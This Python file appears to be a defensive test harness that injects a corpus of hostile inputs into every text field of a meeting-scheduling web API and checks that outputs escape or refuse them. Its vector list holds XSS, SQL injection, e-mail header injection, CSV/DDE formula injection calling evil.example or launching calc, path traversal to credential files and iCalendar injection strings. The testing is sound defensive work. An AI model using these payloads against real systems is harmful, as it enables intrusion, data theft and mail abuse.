"""The hostile-input corpus: every vector into every text field of every API body.

    .venv/bin/python bench/hostile_input.py [--database URL] [--vectors NAME,NAME] [--pdf]

Reads the OpenAPI document for the text fields of every JSON request body (strings that
are not enums, dates or times, the items of string lists and the values of string maps),
adds the file name of a document upload, then, for each vector, in a fresh world (a
SQLite file, or `--database`, a PostgreSQL URL whose schema is dropped and rebuilt),
writes the vector into each field in its own request (the value carries a marker naming
its field), sends the session's invitations through the mail drop, builds the draft
minutes, and reads back every page (each route, with every id), the .ics files, the
e-mails and their .ics, the CSV and XLSX exports, the minutes and the documents.
Each write is one of:
- refused: a 4xx answer;
- escaped: stored, shown somewhere, and safe wherever shown (no element or handler from
  it in HTML, no line of its own in an .ics or an e-mail header, no formula in a CSV or
  XLSX cell);
- stored, not shown: stored and shown nowhere we read back (a password, say);
- neither: a 5xx, or unsafe in some output (or an output failing because of it).
Prints vectors × fields, the counts and every "neither" (which must be 0; exit 1 if not).
`--pdf` also renders the letters and the minutes as PDF (slower).
"""

from __future__ import annotations

import argparse
import asyncio
import json
import re
import shutil
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path[:0] = [str(ROOT), str(Path(__file__).resolve().parent)]

import hostile_checks as checks  # noqa: E402
from hostile_world import (  # noqa: E402
    BUILDERS,
    Databases,
    Request,
    World,
    close_world,
    multipart,
    open_world,
)

#: Replaced by bytes that are not UTF-8 (an overlong "/") in the body as sent.
RAW = "\ue000raw\ue000"
OVERLONG = b"\xc0\xaf"
VECTORS: dict[str, str] = {
    "benign (control)": "Giao-ban.{m}",
    "script element": "<script>alert('{m}')</script>",
    "img onerror": '"><img src=x onerror=alert("{m}")>',
    "attribute breaker": "' onmouseover='alert(1)' data-x='{m}",
    "textarea/title breaker": "</textarea></title><svg onload=alert('{m}')>",
    "javascript: URL": "javascript:alert('{m}')",
    "entities (double escape)": "&lt;b&gt;{m}&lt;/b&gt; &amp; &#60;i&#62;",
    "template syntax": "{{7*7}} ${7*7} {% if 1 %}{m}{% endif %}",
    "SQL quote": "{m}'; DROP TABLE site; --",
    "SQL boolean": "{m}' OR '1'='1' /*",
    "header CR/LF": "{m}\r\nBcc: evil@example.org\r\nX-Injected: 1",
    "header LF": "{m}\nX-Injected: 1",
    "NUL byte": "{m}\x00after",
    "control characters": "{m}\x07\x08\x1b[31m\x0b\x0c\x7f",
    "very long (100,000)": "{m}" + "A" * 100_000,
    "bidi override": "{m}\u202egnp.exe\u202c \u2066x\u2069",
    "zero-width and BOM": "{m}\u200b\u200d\ufeff",
    "lone surrogate": "{m}\ud800",
    "overlong UTF-8": "{m}" + RAW,
    "formula =": '=HYPERLINK("http://evil.example/?x="&A1,"{m}")',
    "formula +": "+{m}+cmd|' /C calc'!A0",
    "formula -": "-2+3+{m}",
    "formula @": "@SUM(1+1)*{m}",
    "formula after tab": "\t=1+{m}",
    "path traversal": "../../../../etc/passwd{m}",
    "windows traversal": "..\\..\\windows\\win.ini{m}",
    "iCalendar VEVENT": "{m}\r\nBEGIN:VEVENT\r\nX-INJECTED:{m}\r\nEND:VEVENT",
    "iCalendar property": "{m}\nX-INJECTED:{m};\\,",
    "address list": '{m}" <evil@example.org>, "x',
}
NOT_TEXT = {"date-time", "date", "time", "binary"}
#: Fields with a shape: the vector is put where the shape allows any text.
SHAPES = {
    "email": "{v}@example.org",
    "video_url": "https://meet.example.org/{v}",
    "file name": "{v}.pdf",
}
UPLOAD = ("POST", "/api/v1/meetings/{id}/documents", ("file name",))


@dataclass(frozen=True)
class Field:
    method: str
    path: str
    place: tuple[Any, ...]

    def __str__(self) -> str:
        where = ".".join("[]" if p == 0 else str(p) for p in self.place)
        return f"{self.method} {self.path} {where}"


@dataclass
class Result:
    """One vector's writes: field number → status, and what the outputs showed."""

    status: dict[int, int] = field(default_factory=dict)
    #: The answers that were not 2xx (shown with --verbose).
    answers: dict[int, str] = field(default_factory=dict)
    seen: checks.Seen = field(default_factory=checks.Seen)


# --- the fields ------------------------------------------------------------------------


def _resolve(doc: dict[str, Any], schema: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in schema:
        schema = doc["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
    return schema


def _strings(doc: dict[str, Any], schema: dict[str, Any], at: tuple[Any, ...]) -> Iterator[tuple]:
    schema = _resolve(doc, schema)
    variants = [s for s in schema.get("anyOf", []) if _resolve(doc, s).get("type") != "null"]
    if variants:
        yield from _strings(doc, variants[0], at)
    elif schema.get("type") == "object":
        for name, sub in schema.get("properties", {}).items():
            yield from _strings(doc, sub, (*at, name))
        if isinstance(schema.get("additionalProperties"), dict):
            yield from _strings(doc, schema["additionalProperties"], (*at, "*"))
    elif schema.get("type") == "array":
        yield from _strings(doc, schema["items"], (*at, 0))
    elif schema.get("type") == "string" and "enum" not in schema:
        if schema.get("format") not in NOT_TEXT:
            yield at


def text_fields(doc: dict[str, Any]) -> list[Field]:
    """Every text field of every JSON body in the OpenAPI document, and an upload's name."""
    found = []
    for path, operations in doc["paths"].items():
        for method, operation in operations.items():
            content = operation.get("requestBody", {}).get("content", {})
            schema = content.get("application/json", {}).get("schema")
            if schema is not None:
                found += [Field(method.upper(), path, at) for at in _strings(doc, schema, ())]
    return [*found, Field(*UPLOAD)]


# --- writing ---------------------------------------------------------------------------


def _put(body: Any, place: tuple[Any, ...], value: str) -> None:
    *parents, last = place
    node = body
    for key in parents:
        node = node[next(iter(node)) if key == "*" else key]
    node[next(iter(node)) if last == "*" else last] = value


async def write(w: World, item: Field, k: int, value: str) -> tuple[int, str]:
    request = await BUILDERS[(item.method, item.path)](w, item.place, k)
    if request.upload:
        data, kind = multipart(value.encode("utf-8", "surrogatepass"))
        return await w.send(request, data.replace(RAW.encode(), OVERLONG), kind)
    _put(request.body, item.place, value)
    body = json.dumps(request.body).encode().replace(b"\\ue000raw\\ue000", OVERLONG)
    return await w.send(request, body)


# --- reading back ----------------------------------------------------------------------


async def _ids(w: World, url: str) -> list[int]:
    return [item["id"] for item in (await w.get(url))["items"]]


async def _outputs(w: World, pdf: bool) -> list[tuple[str, str, str]]:
    """(kind, route name, URL) of everything that shows what was stored."""
    meetings = await _ids(w, "/api/v1/meetings?limit=200")
    ids = {
        "/users/": await _ids(w, "/api/v1/users"),
        "/sites/": await _ids(w, "/api/v1/sites?limit=200"),
        "/clusters/": await _ids(w, "/api/v1/clusters"),
        "/sessions/": meetings,
    }
    m = w.ids["M"]
    documents = await _ids(w, f"/api/v1/meetings/{m}/documents")
    found = []
    for route in w.app.router.routes():
        info = route.resource.get_info() if route.resource else {}
        path, name = info.get("formatter", info.get("path", "")), route.name or ""
        if route.method != "GET" or name.startswith("api_") or name in SKIPPED_PAGES:
            continue
        if "{site_token}" in path:
            found += _site_pages(w, name, path, documents, pdf)
        elif "{message_id}" in path:
            for meeting in meetings:
                for message in await _ids(w, f"/api/v1/meetings/{meeting}/messages"):
                    url = path.format(id=meeting, message_id=message)
                    found += [("page", name, url), ("page", name, url + "?part=html")]
        elif "{id}" in path:
            prefix = next(p for p in ids if path.startswith(p))
            found += [("page", name, path.format(id=i)) for i in ids[prefix]]
        else:
            found.append(("page", name, path))
    found += [("csv", "export", "/api/v1/sites/export.csv")]
    found += [
        (kind, f"attendance.{kind}", f"/api/v1/meetings/{m}/attendance.{kind}")
        for kind in ("csv", "xlsx")
    ]
    found += [("page", "minutes.html", f"/api/v1/meetings/{m}/minutes.html")]
    found += [
        ("status", f"minutes.{f}", f"/api/v1/meetings/{m}/minutes.{f}") for f in ("md", "docx")
    ]
    found += [("ics", "calendar", f"/api/v1/meetings/{i}/calendar.ics") for i in meetings]
    found += [("ics", "feed", f"/api/v1/site/{t}/calendar.ics") for t in w.tokens.values()]
    found += [("download", "document", f"/api/v1/meetings/{m}/documents/{d}") for d in documents]
    if pdf:
        found += [("status", "minutes.pdf", f"/api/v1/meetings/{m}/minutes.pdf")]
        found += [("status", "letter", f"/api/v1/meetings/{i}/letter.pdf") for i in meetings]
    return found


SKIPPED_PAGES = {"static", "health", "language", "openapi"}


def _site_pages(
    w: World, name: str, path: str, documents: list[int], pdf: bool
) -> list[tuple[str, str, str]]:
    m = w.ids["M"]
    found = []
    for token in w.tokens.values():
        if name == "site_page":
            found.append(("page", name, path.format(site_token=token)))
        elif name == "site_document":
            found += [
                ("download", name, path.format(site_token=token, id=m, document_id=d))
                for d in documents
            ]
        elif name == "site_letter" and pdf:
            found.append(("status", name, path.format(site_token=token, id=m)))
    return found


async def read_back(w: World, sent: dict[str, str], pdf: bool) -> checks.Seen:
    seen = checks.Seen()
    for kind, name, url in await _outputs(w, pdf):
        session = w.pages if kind == "page" else w.api
        async with session.get(url, allow_redirects=False) as answer:
            status, data, headers = answer.status, await answer.read(), answer.headers
        if status >= 400:
            seen.findings.append((None, f"{name} answered {status}"))
        elif kind == "page":
            seen.merge(checks.html(data.decode("utf-8", "replace"), sent), name)
        elif kind == "ics":
            seen.merge(checks.ics(data), name)
        elif kind in ("csv", "xlsx"):
            seen.merge(checks.csv_file(data) if kind == "csv" else checks.xlsx_file(data), name)
        elif kind == "download":
            disposition = headers.get("Content-Disposition", "")
            seen.shown |= set(checks.MARKER.findall(disposition))
            fallback = re.search(r'filename="([^"]*)"', disposition)
            if fallback is None or re.search(r"[/\\\x00-\x1f]", fallback.group(1)):
                seen.add(disposition, f"{name}: file name {disposition!r}")
    return seen


async def read_mail(w: World, sent: dict[str, str], expected: set[str]) -> checks.Seen:
    seen = checks.Seen()
    for eml in sorted(Path(w.settings.mail.drop_dir).glob("*.eml")):
        seen.merge(checks.email(eml.read_bytes(), sent, expected), "e-mail")
    for meeting in await _ids(w, "/api/v1/meetings?limit=200"):
        for message in (await w.get(f"/api/v1/meetings/{meeting}/messages"))["items"]:
            if message["status"] == "failed":
                seen.findings.append((None, f"e-mail not sent: {message.get('error', '')}"))
    return seen


# --- a vector in its world ---------------------------------------------------------------


async def run_vector(
    template: str,
    fields: list[Field],
    folder: Path,
    databases: Databases,
    *,
    pdf: bool,
    expected: set[str],
    only: set[int] | None = None,
) -> Result:
    """Each field written with the vector (marker zq<n>x), then everything read back."""
    result = Result()
    w = await open_world(folder, databases)
    try:
        sent: dict[str, str] = {}
        per_operation: Counter[tuple[str, str]] = Counter()
        for n, item in enumerate(fields):
            k = per_operation[(item.method, item.path)]
            per_operation[(item.method, item.path)] += 1
            if only is not None and n not in only:
                continue
            shape = SHAPES.get(str(item.place[-1]), "{v}")
            value = shape.replace("{v}", template.replace("{m}", f"zq{n}x"))
            result.status[n], answer = await write(w, item, k, value)
            if result.status[n] >= 300:
                result.answers[n] = answer[:300]
            else:
                sent[f"zq{n}x"] = value.replace(RAW, "")
        await w.send(_request("POST", f"/api/v1/meetings/{w.ids['M']}/invitations"), b"{}")
        await w.deliver()
        await w.send(_request("POST", f"/api/v1/meetings/{w.ids['M']}/minutes"), b"{}")
        result.seen.merge(await read_back(w, sent, pdf), "")
        result.seen.merge(await read_mail(w, sent, expected), "")
    finally:
        await close_world(w)
    return result


def _request(method: str, url: str) -> Request:
    return Request(method, url)


async def expected_headers(folder: Path, databases: Databases) -> tuple[set[str], dict]:
    """The header names of the e-mails of a world without a hostile value; the OpenAPI."""
    w = await open_world(folder, databases)
    try:
        await w.send(_request("POST", f"/api/v1/meetings/{w.ids['M']}/invitations"), b"{}")
        await w.deliver()
        names: set[str] = set()
        for eml in Path(w.settings.mail.drop_dir).glob("*.eml"):
            names |= checks.header_names(eml.read_bytes())
        return names, await w.get("/api/v1/openapi.json")
    finally:
        await close_world(w)


# --- the figures -------------------------------------------------------------------------


@dataclass
class Tally:
    refused: int = 0
    escaped: int = 0
    hidden: int = 0
    neither: list[tuple[str, str, str]] = field(default_factory=list)

    def row(self) -> tuple[int, int, int, int]:
        return self.refused, self.escaped, self.hidden, len(self.neither)


async def attribute(
    template: str,
    fields: list[Field],
    result: Result,
    folder: Path,
    databases: Databases,
    **options: Any,
) -> None:
    """Problems no marker names (an output failing): each stored field alone, again."""
    if not any(marker is None for marker, _ in result.seen.findings):
        return
    result.seen.findings = [(m, p) for m, p in result.seen.findings if m is not None]
    for n, status in sorted(result.status.items()):
        if status >= 300:
            continue
        alone = await run_vector(
            template, fields, folder / f"alone-{n}", databases, only={n}, **options
        )
        result.seen.findings += [(f"zq{n}x", p) for m, p in alone.seen.findings if m is None]


def classify(vector: str, fields: list[Field], result: Result) -> Tally:
    tally = Tally()
    problems: dict[str | None, list[str]] = {}
    for marker, problem in result.seen.findings:
        problems.setdefault(marker, []).append(problem)
    for n, status in sorted(result.status.items()):
        marker = f"zq{n}x"
        if 400 <= status < 500:
            tally.refused += 1
        elif status >= 500:
            tally.neither.append((vector, str(fields[n]), f"answered {status}"))
        elif marker in problems:
            found = sorted(set(problems[marker]))
            tally.neither.append((vector, str(fields[n]), "; ".join(found[:3])))
        elif marker in result.seen.shown:
            tally.escaped += 1
        else:
            tally.hidden += 1
    return tally


def report(fields: list[Field], tallies: dict[str, Tally], seconds: float, store: str) -> int:
    total = Tally()
    print(f"\n{'vector':<26} {'refused':>8} {'escaped':>8} {'not shown':>10} {'neither':>8}")
    for vector, tally in tallies.items():
        print(
            f"{vector:<26} {tally.refused:>8} {tally.escaped:>8} {tally.hidden:>10} "
            f"{len(tally.neither):>8}"
        )
        total.refused += tally.refused
        total.escaped += tally.escaped
        total.hidden += tally.hidden
        total.neither += tally.neither
    writes = sum(total.row()[:3]) + len(total.neither)
    print(
        f"\nhostile input ({store}): {len(tallies)} vectors × {len(fields)} fields = {writes} "
        f"writes in {seconds:.0f} s: {total.refused} refused (4xx), {total.escaped} stored "
        f"and escaped wherever shown, {total.hidden} stored and shown nowhere, "
        f"{len(total.neither)} neither"
    )
    for vector, where, problem in total.neither:
        print(f"  NEITHER  {vector} → {where}: {problem}")
    return 1 if total.neither else 0


async def run(args: argparse.Namespace, folder: Path, databases: Databases) -> int:
    started = time.monotonic()
    expected, doc = await expected_headers(folder / "control", databases)
    fields = [f for f in text_fields(doc) if (f.method, f.path) in BUILDERS]
    missing = sorted(
        {f"{f.method} {f.path}" for f in text_fields(doc)} - {f"{m} {p}" for m, p in BUILDERS}
    )
    for operation in missing:
        print(f"no request builder for {operation}: its fields are not tried")
    chosen = [v for v in VECTORS if not args.vectors or v in args.vectors.split(",")]
    options: dict[str, Any] = {"pdf": args.pdf, "expected": expected}
    tallies: dict[str, Tally] = {}
    for number, vector in enumerate(chosen):
        place = folder / f"v{number}"
        result = await run_vector(VECTORS[vector], fields, place, databases, **options)
        await attribute(VECTORS[vector], fields, result, place, databases, **options)
        tallies[vector] = classify(vector, fields, result)
        if args.verbose:
            for n, status in sorted(result.status.items()):
                shown = "shown" if f"zq{n}x" in result.seen.shown else "not shown"
                print(f"  {status} {shown:<9} {fields[n]} {result.answers.get(n, '')}")
        print(
            f"{vector:<26} refused, escaped, not shown, neither: {tallies[vector].row()}",
            flush=True,
        )
    store = "PostgreSQL" if args.database else "SQLite"
    return report(fields, tallies, time.monotonic() - started, store)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--database", help="a PostgreSQL URL (emptied!); default: SQLite")
    parser.add_argument("--vectors", help="only these vectors (names, comma-separated)")
    parser.add_argument("--pdf", action="store_true", help="render the PDFs too")
    parser.add_argument("-v", "--verbose", action="store_true", help="each write's answer")
    args = parser.parse_args()
    folder = Path(tempfile.mkdtemp(prefix="giaoban-hostile-"))
    try:
        databases = Databases(folder, args.database)
        status = asyncio.run(run(args, folder, databases))
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    sys.exit(status)


if __name__ == "__main__":
    main()
